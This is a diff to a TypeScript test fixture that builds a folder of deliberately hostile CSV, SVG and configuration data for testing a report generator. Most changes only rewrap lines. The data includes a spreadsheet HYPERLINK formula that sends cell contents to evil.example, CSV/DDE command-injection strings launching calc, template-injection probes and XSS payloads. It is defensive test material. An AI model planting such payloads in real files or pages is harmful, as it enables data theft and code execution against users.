@@ -21,7 +21,7 @@ export const HOSTILE = [
   '&lt;b&gt; &amp; &#x27;',
   '{{7*7}}${7*7}<%= 7*7 %>',
   '=HYPERLINK("https://evil.example/?"&A1,"Click")',
-  '+1+cmd|\' /C calc\'!A1',
+  "+1+cmd|' /C calc'!A1",
   '-2+3',
   '@SUM(1+1)',
   '|calc',
@@ -54,9 +54,13 @@ export const LONG_NAME = 'long '.repeat(LONG_FIELD / 5).trimEnd();
 /** A report folder in which every text that a user or a stranger can choose is hostile. */
 export function writeHostileFolder(folder: string): void {
   mkdirSync(folder, { recursive: true });
-  const write = (name: string, rows: Record<string, string>[]): void => writeFileSync(join(folder, name), `${Papa.unparse(rows, { newline: '\n' })}\n`);
+  const write = (name: string, rows: Record<string, string>[]): void =>
+    writeFileSync(join(folder, name), `${Papa.unparse(rows, { newline: '\n' })}\n`);
   const owner = (index: number): string => HOSTILE[index % 12] ?? '';
-  write('customers.csv', [...HOSTILE.map((name, index) => ({ id: name, name, manager: owner(index) })), { id: 'long', name: LONG_NAME, manager: LONG_NAME }]);
+  write('customers.csv', [
+    ...HOSTILE.map((name, index) => ({ id: name, name, manager: owner(index) })),
+    { id: 'long', name: LONG_NAME, manager: LONG_NAME },
+  ]);
   const invoices = HOSTILE.map((name, index) => ({
     id: `${index}${name}`,
     customer: name,
@@ -71,8 +75,14 @@ export function writeHostileFolder(folder: string): void {
     { id: 'long', customer: 'long', issued: '2026-01-05', due: '2026-02-20', amount: '77.00', manager: '', entity: '' },
     ...HOSTILE.slice(0, 12).map((name) => ({ id: name, customer: name, issued: name, due: '', amount: name, manager: name, entity: '' })),
   ]);
-  write('payments.csv', ['long', ...HOSTILE].map((name) => ({ id: `p${name}`, customer: name, date: '2026-02-03', amount: '1.00', invoice: '' })));
-  writeFileSync(join(folder, LOGO), '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="40"><rect width="300" height="40"/></svg>');
+  write(
+    'payments.csv',
+    ['long', ...HOSTILE].map((name) => ({ id: `p${name}`, customer: name, date: '2026-02-03', amount: '1.00', invoice: '' })),
+  );
+  writeFileSync(
+    join(folder, LOGO),
+    '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="40"><rect width="300" height="40"/></svg>',
+  );
   const [script, , image] = HOSTILE;
   const configuration = {
     company: `${script} ${image}`,
@@ -80,7 +90,12 @@ export function writeHostileFolder(folder: string): void {
     currency: 'EUR',
     asOf: '2026-06-30',
     locales: ['lv', 'en'],
-    stages: [{ id: 'current', upTo: 0 }, { id: 'overdue', upTo: 30, name: '<b onclick=alert(7)>late</b>' }, { id: 'critical', upTo: 90, name: '</style><script>alert(8)</script>' }, { id: 'hopeless' }],
+    stages: [
+      { id: 'current', upTo: 0 },
+      { id: 'overdue', upTo: 30, name: '<b onclick=alert(7)>late</b>' },
+      { id: 'critical', upTo: 90, name: '</style><script>alert(8)</script>' },
+      { id: 'hopeless' },
+    ],
     identity: { accent: '#ffff00', logo: LOGO, footer: '</footer><img src=x onerror=alert(9)>', url: 'https://reports.example.com/a"><b>' },
     tolerance: { rejectedRows: 100 },
     sources: [
